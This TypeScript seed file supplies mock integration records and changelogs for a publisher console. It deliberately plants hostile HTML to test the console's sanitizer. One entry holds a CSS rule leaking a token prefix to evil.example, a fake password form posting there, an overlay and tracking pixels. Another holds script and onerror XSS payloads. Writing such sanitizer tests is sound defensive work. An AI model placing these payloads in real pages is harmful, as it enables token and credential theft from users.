const DOCS = 'https://docs.publisher-console.example';

/** An integration's name, method, type, document page and name, download file and (when not the file) its name. */
type Head = [string, 'Report' | 'SDK', 'Content-SSP' | 'App-SSP', string, string, string, string?];
/** A changelog entry: its version, when it came out, and its text (Markdown, HTML allowed). */
type Log = [version: string, update_time: string, log: string];

/**
 * An integration: its documents at `<DOCS>/<page>` and `<DOCS>/downloads/<file>`, its changelog
 * newest first. It was updated with its newest entry, and entry ids count down from `<id>1`.
 */
const integration = (integration_id: number, head: Head, logs: Log[]) => {
  const [integration_name, integration_method, integration_type, page, document_name, file, name] = head;
  return {
    integration_id,
    integration_name,
    integration_method,
    integration_type,
    update_time: logs[0][1],
    document_link: `${DOCS}/${page}`,
    document_name,
    download_link: `${DOCS}/downloads/${file}`,
    download_name: name ?? file,
    changelogs: logs.map(([version, update_time, log], index) => ({
      log_id: integration_id * 10 + 1 - index,
      version,
      update_time,
      log,
    })),
  };
};

/** A stored integration, with its changelog. */
export type MockIntegration = ReturnType<typeof integration>;

/**
 * The SDK & API screen's integrations (table integrations), with their changelogs; one carries
 * planted hostile HTML that the console's sanitizer must leave harmless.
 */
export default function integrationSeed(): MockIntegration[] {
  return [
    integration(
      1,
      [
        'Reporting API',
        'Report',
        'Content-SSP',
        'reporting-api',
        'Reporting API guide',
        'reporting-api-postman.json',
        'Postman collection',
      ],
      [
        [
          'v2.1.0',
          '2026-09-14 10:00:00',
          '### Added\n- `dimensions` accepts **Channel**.\n- New metric `ImpressionRate`.\n\n### Fixed\n- Totals now match the rows when a country filter is set.',
        ],
        [
          'v2.0.0',
          '2026-05-02 09:30:00',
          '### Changed\n- Moved to `/gamebridge/v2`.\n- Send the token in the `Authorization` header.\n\n```http\nPOST /gamebridge/v2/ssp_publisher/report\nAuthorization: <token>\n```',
        ],
        [
          'v1.9.0',
          '2026-01-12 09:00:00',
          // Hostile server HTML planted in the demo data: the console's sanitizer must leave none
          // of it working (no style read of the token, no form, no overlay, no outside image).
          [
            '### Security',
            'This entry carries planted hostile HTML that the console renders harmless. [Jump to the fixes](#fixed)',
            '',
            '<style>input[value^="ak_"]{background-image:url(https://evil.example/leak?token=ak_)} .ant-layout{display:none}</style>',
            '',
            '<div style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff;font-size:40px">Planted overlay</div>',
            '',
            '<form action="https://evil.example/steal" method="post"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form>',
            '',
            'Pixels: ![tracking pixel](https://evil.example/pixel.png) <img src="https://evil.example/raw.png" alt="raw pixel">',
            '',
            '### Fixed',
            '- Report dates follow the chosen time zone.',
          ].join('\n'),
        ],
      ],
    ),
    integration(
      2,
      ['Web SDK', 'SDK', 'Content-SSP', 'web-sdk', 'Web SDK integration', 'web-sdk-3.4.2.zip'],
      [
        [
          'v3.4.2',
          '2026-10-03 16:20:00',
          // Raw HTML in a changelog is sanitized by the console: the script and handler never run.
          '- Lazy loading for below-the-fold zones.\n- Smaller bundle (<b>-18%</b>).\n\n<img src="x" alt="" onerror="alert(1)"><script>alert(2)</script>',
        ],
        [
          'v3.4.0',
          '2026-07-21 11:00:00',
          '- Floating icon zones (ad type 7) support `space` and `background`.',
        ],
      ],
    ),
    integration(
      3,
      ['Android SDK', 'SDK', 'App-SSP', 'android-sdk', 'Android SDK integration', 'android-sdk-5.2.0.aar'],
      [['v5.2.0', '2026-08-30 08:00:00', '- New ad format `reward_int`.\n- Requires Android 7.0 or later.']],
    ),
    integration(
      4,
      ['iOS SDK', 'SDK', 'App-SSP', 'ios-sdk', 'iOS SDK integration', 'ios-sdk-5.1.1.zip'],
      [['v5.1.1', '2026-09-05 08:00:00', '- Fixes a crash on iOS 15 when an interstitial closes.']],
    ),
  ];
}
